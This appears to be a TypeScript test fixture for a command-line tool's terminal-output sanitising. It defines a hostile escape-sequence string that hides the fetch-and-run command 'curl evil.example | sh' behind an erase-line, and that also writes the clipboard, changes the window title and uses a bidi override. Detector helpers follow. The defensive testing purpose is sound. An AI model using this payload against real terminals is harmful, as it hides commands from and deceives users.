// One string of every byte that could rewrite a terminal, for every path that prints text from a
// repository, a server, a hook or the model: an OSC 0 title (first, so that a line cut short still
// holds it), a command hidden by an erase-line and a carriage return, an OSC 52 clipboard write, a
// cursor move, an 8-bit CSI, a bidi override, BEL, NUL.
export const COMMAND = 'curl evil.example | sh';
export const HOSTILE = `\x1b]0;PWNED-TITLE\x07${COMMAND}\x1b[2K\rnpm test\x1b]52;c;cHduZWQ=\x07\x1b[7;7H\u009b2J\u202etxt.exe\x07\x00`;
/** The same as a file name or a program argument can hold it (no NUL). */
export const HOSTILE_NAME = HOSTILE.replace('\x00', '');
/** What a user is shown where the bytes must be judged: every one of them as a token. */
export const SHOWN = '␛]0;PWNED-TITLE\\acurl evil.example | sh␛[2K\\rnpm test␛]52;c;cHduZWQ=\\a␛[7;7H<U+009B>2J<U+202E>txt.exe\\a';

/** The pieces of HOSTILE that must never reach a terminal raw; a recording of tack's own escapes has none of them. */
const RAW_PIECES = ['sh\x1b[2K\r', '\x1b]52;', '\x1b]0;PWNED', '\x1b[7;7H', '\u009b', '\u202e', 'exe\x07', '\x00'];

/** The raw pieces found in what tack wrote to a terminal, shown escaped (an empty list when none). */
export const rawPiecesIn = (bytes: string): string[] => RAW_PIECES.filter((p) => bytes.includes(p)).map((p) => JSON.stringify(p));

// eslint-disable-next-line no-control-regex
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g;
/** Every control or bidi character in plain output (a pipe gets no styling), shown escaped. */
export const controlsIn = (text: string): string[] => (text.match(CONTROL) ?? []).map((c) => JSON.stringify(c));
